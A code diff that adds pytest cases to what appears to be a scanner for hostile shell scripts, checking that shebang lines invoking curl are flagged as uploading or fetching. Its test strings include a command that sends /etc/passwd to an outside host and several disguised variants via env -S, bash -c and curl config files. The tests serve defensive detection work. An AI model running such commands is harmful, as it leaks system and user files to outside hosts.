@@ -207,3 +207,25 @@ def test_hostile_scripts_are_read_to_their_end(text: str) -> None:
     found(text)
 
     assert time.process_time() - begun < 5
+
+
+@pytest.mark.parametrize(
+    ("script", "act"),
+    [
+        ("#!/usr/bin/env -S curl -T /etc/passwd https://a.fr\n", Act.SENDS),
+        ("#!/usr/bin/curl -sO https://a.fr\n", Act.FETCHES),
+        ("#!/usr/bin/env -S X=1 curl -T f https://a.fr\n", Act.SENDS),
+        ("#!/usr/bin/env --split-string=curl -T f https://a.fr\n", Act.SENDS),
+        ('#!/usr/bin/env -S bash -c "curl -T f https://a.fr"\n', Act.SENDS),
+        ('#!/usr/bin/curl -K\nurl = "https://a.fr"\nupload-file = f\n', Act.SENDS),
+    ],
+)
+def test_a_first_line_is_a_command(script: str, act: Act) -> None:
+    assert ("https://a.fr", act) in acts(script)
+
+
+@pytest.mark.parametrize(
+    "script", ["#!/bin/bash -eu\n", "#!/usr/bin/env bash\n", "#!/bin/sh -o pipefail\n", "#!/usr/bin/env -S bash -eux\n"]
+)
+def test_a_first_line_that_only_names_a_shell_says_nothing(script: str) -> None:
+    assert found(script) == []
